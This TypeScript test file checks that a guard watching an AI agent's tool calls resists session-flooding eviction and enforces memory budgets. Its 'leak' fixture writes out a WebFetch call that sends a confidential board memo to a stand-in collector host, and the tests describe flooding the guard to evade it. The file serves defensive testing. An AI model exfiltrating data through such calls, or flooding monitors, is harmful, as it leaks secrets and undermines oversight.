/**
 * Nobody can evict or starve a session (issue 15, item 3): events with made-up session ids do not
 * push out a session that holds data; past the budget new sessions are refused with the reason.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Sidecar } from '../../src/daemon/sidecar.ts';
import { PROCESS_BASE_BYTES, SESSION_ACTIVE_MS } from '../../src/daemon/recorder.ts';
import { worstSessionBytes } from '../../src/engine/flow-tracker.ts';
import { resolvePaths } from '../../src/paths.ts';

const MEMO = 'Board memo: the Falcon acquisition closes on March 3rd at 41 dollars per share; do not share outside the deal team under any circumstances.';

async function withSidecar(fn: (sc: Sidecar, clock: { t: number }) => Promise<void>): Promise<void> {
  const home = mkdtempSync(join(tmpdir(), 'mph-budget-'));
  const paths = resolvePaths({ HOME: home, MCPPROXY_HOOK_HOME: join(home, 's') });
  const clock = { t: 1_800_000_000_000 };
  const sc = await Sidecar.start({ paths, log: () => {}, now: () => clock.t });
  try {
    await fn(sc, clock);
  } finally {
    await sc.stop();
    rmSync(home, { recursive: true, force: true });
  }
}

const read = (sid: string): string =>
  JSON.stringify({
    session_id: sid,
    hook_event_name: 'PostToolUse',
    tool_name: 'Read',
    cwd: '/home/u/p',
    tool_input: { file_path: '/home/u/p/memo.txt' },
    tool_response: { type: 'text', file: { filePath: '/home/u/p/memo.txt', content: MEMO } },
  });
const leak = (sid: string): string =>
  JSON.stringify({
    session_id: sid,
    hook_event_name: 'PreToolUse',
    tool_name: 'WebFetch',
    cwd: '/home/u/p',
    tool_input: { url: `https://collector.example.net/in?m=${encodeURIComponent(MEMO)}`, prompt: 'ok' },
  });
const tiny = (sid: string): string =>
  JSON.stringify({ session_id: sid, hook_event_name: 'PreToolUse', tool_name: 'Bash', cwd: '/home/u/p', tool_input: { command: 'true' } });

test('1,100 tiny events with new session ids do not evict a session that read a memo; the new ones past the budget are refused with the reason', async () => {
  await withSidecar(async (sc) => {
    sc.evaluate(read('victim'), 'hook');
    const before = await sc.evaluate(leak('victim'), 'hook');
    assert.equal(before.decision?.action, 'ask', before.decision?.reason);
    const max = sc.engine.config.session.maxSessions;
    let refused = 0;
    for (let i = 0; i < 1100; i++) {
      const r = await sc.evaluate(tiny(`flood-${i}`), 'hook');
      if (r.decision?.action === 'deny') {
        refused++;
        assert.match(r.decision.reason, /the guard already tracks \d+ sessions \(session.maxSessions\).*never drops one of those to make room/);
      }
    }
    assert.equal(sc.engine.tracker.size, max);
    assert.equal(refused, 1100 - (max - 1));
    assert.ok(sc.engine.tracker.get('victim'), 'the victim session is still tracked');
    const after = await sc.evaluate(leak('victim'), 'hook');
    assert.equal(after.decision?.action, 'ask', `the memo is still known: ${after.decision?.summary}`);
    assert.equal((sc.status() as { sessions_refused: number }).sessions_refused, refused);
  });
});

test('an idle session that holds nothing makes room; an idle session that holds data does not', async () => {
  await withSidecar(async (sc, clock) => {
    const max = sc.engine.config.session.maxSessions;
    sc.evaluate(read('victim'), 'hook');
    for (let i = 0; i < max - 1; i++) sc.evaluate(tiny(`idle-${i}`), 'hook');
    assert.equal(sc.engine.tracker.size, max);
    clock.t += SESSION_ACTIVE_MS + 1;
    const r = await sc.evaluate(tiny('newcomer'), 'hook');
    assert.equal(r.decision?.action, 'allow', r.decision?.reason);
    assert.ok(sc.engine.tracker.get('newcomer'));
    assert.ok(sc.engine.tracker.get('victim'), 'the session holding data stays, though it is the least recently active');
    assert.equal(sc.engine.tracker.get('idle-0'), undefined, 'the least recently active empty session made room');
  });
});

test('past the memory budget, a new session is refused with the reason; sessions already tracked go on', async () => {
  const home = mkdtempSync(join(tmpdir(), 'mph-budget-'));
  const paths = resolvePaths({ HOME: home, MCPPROXY_HOOK_HOME: join(home, 's') });
  const sc = await Sidecar.start({ paths, log: () => {}, memoryBudget: Number.MAX_SAFE_INTEGER });
  try {
    sc.evaluate(read('victim'), 'hook');
    sc.status(); // records the answered PostToolUse
    // the process grows past its budget (here: the budget drops below it)
    (sc as unknown as { recorder: { memoryBudget: number; memoryBudgetSource: string } }).recorder.memoryBudget = 1;
    (sc as unknown as { recorder: { memoryBudget: number; memoryBudgetSource: string } }).recorder.memoryBudgetSource = 'set by the caller';
    assert.equal((await sc.evaluate(leak('victim'), 'hook')).decision?.action, 'ask', 'a tracked session goes on');
    const r = await sc.evaluate(tiny('newcomer'), 'hook');
    assert.equal(r.decision?.action, 'deny');
    assert.match(r.decision?.reason ?? '', /the guard's memory is at its budget \(\d+ MiB of 0 MiB, set by the caller\)/);
    assert.equal(sc.engine.tracker.size, 1);
  } finally {
    await sc.stop();
    rmSync(home, { recursive: true, force: true });
  }
});

test('the sessions admitted fit the memory budget by construction: no more than the budget holds with each session filled to session.maxFingerprints', async () => {
  const home = mkdtempSync(join(tmpdir(), 'mph-budget-'));
  const paths = resolvePaths({ HOME: home, MCPPROXY_HOOK_HOME: join(home, 's') });
  // sessions that may each grow to 5 million fingerprints; room for exactly three such beside the
  // process's own memory, while RSS itself stays far below the budget
  mkdirSync(paths.stateDir, { recursive: true, mode: 0o700 });
  writeFileSync(paths.configFile, JSON.stringify({ session: { maxFingerprints: 5_000_000 } }));
  const budget = PROCESS_BASE_BYTES + 3 * worstSessionBytes(5_000_000) + 1;
  const sc = await Sidecar.start({ paths, log: () => {}, memoryBudget: budget });
  try {
    assert.ok(process.memoryUsage.rss() < budget);
    assert.deepEqual((sc.status() as { session_limit: unknown }).session_limit, { max: 3, byMemory: true });
    for (const sid of ['a', 'b', 'c']) sc.evaluate(read(sid), 'hook');
    sc.status(); // records the answered PostToolUse events: each session now holds data and is active
    const r = await sc.evaluate(tiny('d'), 'hook');
    assert.equal(r.decision?.action, 'deny', 'a fourth session could outgrow the budget: refused, not admitted');
    assert.match(r.decision?.reason ?? '', /as many as its memory budget \(\d+ MiB, set by the caller\) holds when each fills up to session\.maxFingerprints/);
    for (const sid of ['a', 'b', 'c']) assert.ok(sc.engine.tracker.get(sid), `${sid} stays`);
  } finally {
    await sc.stop();
    rmSync(home, { recursive: true, force: true });
  }
});
